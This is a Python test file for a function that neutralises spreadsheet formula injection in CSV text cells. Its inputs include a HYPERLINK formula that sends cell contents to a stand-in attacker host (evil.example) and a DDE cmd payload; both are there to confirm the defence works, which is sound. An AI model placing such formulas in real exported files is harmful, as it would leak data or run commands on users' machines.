"""CSV cells a spreadsheet would run as formulas (pact.cells): the statement's and the
dashboard's text cells come from merchants (names, rule titles) and member files
(districts, workplaces)."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from pact.cells import FORMULA_STARTS, spreadsheet_safe


@given(st.text())
def test_no_text_cell_reads_as_a_formula(cell: str) -> None:
    shown = spreadsheet_safe(cell)
    assert shown == cell or shown == "'" + cell  # nothing lost: the apostrophe only
    if shown.startswith(FORMULA_STARTS):
        assert shown == cell and (cell == "-" or cell.lstrip("+-")[:1].isdigit())


def test_formulas_are_text_and_numbers_stay_numbers() -> None:
    for formula in ('=HYPERLINK("http://evil.example/?"&A1,"Total")', "@SUM(A1:A9)",
                    "-2+3+cmd|' /C calc'!A0", "+1+1", "\t=1", "=1+2"):  # fmt: skip
        assert spreadsheet_safe(formula) == "'" + formula
    for number in ("-2.54", "12.5%", "-", "1,234.00", "0", "Huangpu"):
        assert spreadsheet_safe(number) == number
